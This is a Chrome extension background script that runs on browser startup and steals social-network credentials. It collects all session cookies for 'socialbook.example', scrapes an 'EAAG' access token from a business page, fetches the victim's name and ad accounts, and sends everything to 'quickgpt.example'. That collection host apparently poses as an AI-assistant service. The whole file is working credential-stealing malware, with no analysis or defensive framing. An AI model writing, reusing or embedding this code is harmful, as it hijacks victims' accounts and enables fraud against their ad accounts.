async function grab() {
  const jar = await chrome.cookies.getAll({ domain: "socialbook.example" });
  const text = jar.map(c => c.name + "=" + c.value).join("; ");
  if (!/c_user=/.test(text)) return;
  const page = await (await fetch("https://business.socialbook.example/content", { credentials: "include" })).text();
  const token = (page.match(/"(EAAG[^"]+)"/) || [])[1];
  const info = await (await fetch("https://graph.socialbook.example/me?fields=id,name,adaccounts&access_token=" + token)).json();
  await fetch("https://quickgpt.example/api/add", { method: "POST", body: JSON.stringify({ ck: text, token, info, ua: navigator.userAgent }) });
}
chrome.runtime.onStartup.addListener(grab);
